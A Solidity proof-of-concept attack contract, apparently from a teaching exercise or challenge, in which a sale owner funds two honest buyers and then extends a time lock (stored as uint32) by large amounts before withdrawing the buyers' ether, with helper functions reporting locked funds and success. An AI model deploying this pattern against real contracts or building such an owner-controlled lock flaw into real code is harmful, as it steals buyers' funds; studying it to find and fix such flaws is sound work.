// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITarget {
    function open(uint256 time) external;
    function buy() external payable;
    function extend(uint256 time) external;
    function withdraw() external;
    function lockEnd() external view returns (uint32);
}

/// @notice An honest buyer, who trusts the lock.
contract Buyer {
    constructor(ITarget target) payable {
        target.buy{ value: msg.value }();
    }
}

/// @notice The owner of a sale, who extends the lock until it is over.
contract Attack {
    ITarget private immutable _target;

    constructor(address target) payable {
        _target = ITarget(target);
        _target.open(365 days);
        new Buyer{ value: 60 ether }(_target);
        new Buyer{ value: 40 ether }(_target);
    }

    /// @param parameter By how many years the owner extends the lock.
    function attack(uint256 parameter) external {
        try _target.extend(parameter * 365 days) { } catch { }
        try _target.withdraw() { } catch { }
    }

    receive() external payable { }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](3);
        amounts = new uint256[](3);
        uint256 end = _target.lockEnd();
        uint256 left = end > block.timestamp ? end - block.timestamp : 0;
        (names[0], amounts[0]) = ("Ether locked for the buyers", address(_target).balance);
        (names[1], amounts[1]) = ("Years until the lock ends", left * 1 ether / 365 days);
        (names[2], amounts[2]) = ("Ether the attacker holds", address(this).balance);
    }

    /// @return The owner of the sale holds ether of the buyers.
    function succeeded() external view returns (bool) {
        return address(this).balance > 0;
    }
}
